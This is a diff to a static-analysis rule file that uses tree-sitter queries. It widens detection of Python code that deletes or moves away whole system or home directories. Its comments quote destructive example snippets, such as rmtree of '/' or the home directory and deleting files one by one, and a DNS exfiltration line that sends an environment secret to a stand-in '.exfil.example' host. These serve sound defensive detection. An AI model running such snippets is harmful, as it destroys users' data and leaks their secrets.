@@ -119,11 +119,11 @@
 ((call
    function: (_) @fn
    arguments: (argument_list . (_) @path)) @finding
- (#resolves-to? @fn "shutil\\.rmtree|os\\.(removedirs|rmdir)")
- (#value-match? @path "^(/|~|/\\*|/(bin|boot|etc|home|lib|opt|root|usr|var)|~/\\*?)/?$|^(~|/[^/]*)(/+\\.?)*(/+\\.\\.)+(/+\\.?)*/?$")
+ (#resolves-to? @fn "shutil\\.(rmtree|move)|os\\.(removedirs|rmdir|rename|renames|replace)")
+ (#value-match? @path "^(/|~|/\\*|/(bin|boot|etc|home|lib|opt|root|usr|var)|~/\\*?|/home/[^/]+)/?$|^(~|/[^/]*)(/+\\.?)*(/+\\.\\.)+(/+\\.?)*/?$")
  (#set! id "py-destructive")
  (#set! severity "high")
- (#set! message "deletes a whole system or home directory"))
+ (#set! message "deletes or moves away a whole system or home directory"))
 
 ((call
    function: (_) @fn
@@ -134,18 +134,29 @@
  (#set! severity "high")
  (#set! message "sets the set-user-id or set-group-id bit, a classic privilege escalation"))
 
+; Path.home().rename("/tmp/h"): the directory moved away, as deleted
+((call function: (attribute object: (_) @root attribute: (identifier) @m)) @finding
+ (#any-of? @m "rename" "replace")
+ (#not-type? @root "string" "concatenated_string")
+ (#value-match? @root "^(/|~|/(bin|boot|etc|home|lib|opt|root|usr|var))/?$")
+ (#set! id "py-destructive")
+ (#set! severity "high")
+ (#set! message "moves away a whole system or home directory"))
+
 ; a home or system directory emptied file by file: for p in
-; Path.home().rglob("*"): p.unlink(); for d, _, fs in os.walk("/"): os.remove
+; Path.home().rglob("*"): p.unlink(); for d, _, fs in os.walk("/"): os.remove;
+; or moved away entry by entry (shutil.move(p, tmp), p.rename(...)), which
+; empties it as surely, the more so when the place moved to is cleaned up
 ((for_statement
    right: [(call function: (attribute object: (_) @root attribute: (identifier) @m))
            (call arguments: (argument_list . (call function: (attribute object: (_) @root attribute: (identifier) @m))))]
    body: (_) @body) @finding
  (#any-of? @m "rglob" "walk" "glob" "iterdir")
  (#value-match? @root "^(/|~|/(bin|boot|etc|home|lib|opt|root|usr|var))/?$")
- (#match? @body "(^|[^A-Za-z0-9_])(unlink|rmdir|remove|removedirs|rmtree)\\s*\\(")
+ (#match? @body "(^|[^A-Za-z0-9_])(unlink|rmdir|remove|removedirs|rmtree|move|rename)\\s*\\(|os\\.replace\\s*\\(")
  (#set! id "py-destructive")
  (#set! severity "high")
- (#set! message "deletes the files of a whole system or home directory, one by one"))
+ (#set! message "deletes or moves away the files of a whole system or home directory, one by one"))
 
 ((for_statement
    right: [(call function: (_) @fn arguments: (argument_list . (_) @root))
@@ -153,10 +164,10 @@
    body: (_) @body) @finding
  (#resolves-to? @fn "os\\.(walk|fwalk|scandir|listdir)|glob\\.i?glob")
  (#value-match? @root "^(/|~|/(bin|boot|etc|home|lib|opt|root|usr|var))(/\\*\\*?)*/?$")
- (#match? @body "(^|[^A-Za-z0-9_])(unlink|rmdir|remove|removedirs|rmtree)\\s*\\(")
+ (#match? @body "(^|[^A-Za-z0-9_])(unlink|rmdir|remove|removedirs|rmtree|move|rename)\\s*\\(|os\\.replace\\s*\\(")
  (#set! id "py-destructive")
  (#set! severity "high")
- (#set! message "deletes the files of a whole system or home directory, one by one"))
+ (#set! message "deletes or moves away the files of a whole system or home directory, one by one"))
 
 ; socket.gethostbyname(os.environ["KEY"] + ".exfil.example"): a value of
 ; the environment sent out as a name to look up (DNS carries it out even
@@ -190,7 +201,7 @@
 ; functools.partial(shutil.rmtree, home), weakref.finalize(o, shutil.rmtree,
 ; Path.home()), atexit.register(shutil.rmtree, "/")
 ((argument_list [(identifier) (attribute)] @fn . (_) @path) @finding
- (#value-match? @path "^(/|~|/\\*|/(bin|boot|etc|home|lib|opt|root|usr|var)|~/\\*?)/?$|^(~|/[^/]*)(/+\\.?)*(/+\\.\\.)+(/+\\.?)*/?$")
+ (#value-match? @path "^(/|~|/\\*|/(bin|boot|etc|home|lib|opt|root|usr|var)|~/\\*?|/home/[^/]+)/?$|^(~|/[^/]*)(/+\\.?)*(/+\\.\\.)+(/+\\.?)*/?$")
  (#resolves-to? @fn "shutil\\.rmtree|os\\.(removedirs|rmdir)")
  (#set! id "py-destructive")
  (#set! severity "high")
